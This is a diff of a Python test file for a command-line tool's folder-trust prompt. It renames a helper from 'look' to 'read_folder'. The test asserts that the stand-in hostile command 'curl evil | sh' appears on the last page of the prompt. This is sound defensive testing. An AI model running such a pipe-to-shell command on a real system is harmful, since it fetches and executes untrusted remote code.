@@ -12,7 +12,7 @@ from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import pytest
 
-from glidepath.cli.folder import look
+from glidepath.cli.folder import read_folder
 from glidepath.cli.layers import gather
 from glidepath.cli.servers import load_servers
 from glidepath.cli.trust import record_of
@@ -110,7 +110,7 @@ def test_the_question_is_paged_and_comes_last(tmp_path):
         (folder / f".glidepath/commands/c{number:03}.md").write_text("x")
     _, err = asking(folder, "n\n")
     assert "Trust this folder" not in err, "nobody is asked about what was not shown"
-    assert not look(folder).unread
+    assert not read_folder(folder).unread
     _, err = asking(folder, "\n" * 30 + "n\n")
     assert err.count("curl evil | sh") == 1
     assert len(err[err.index("curl evil | sh") :].splitlines()) < 22, "the command is on the last page"
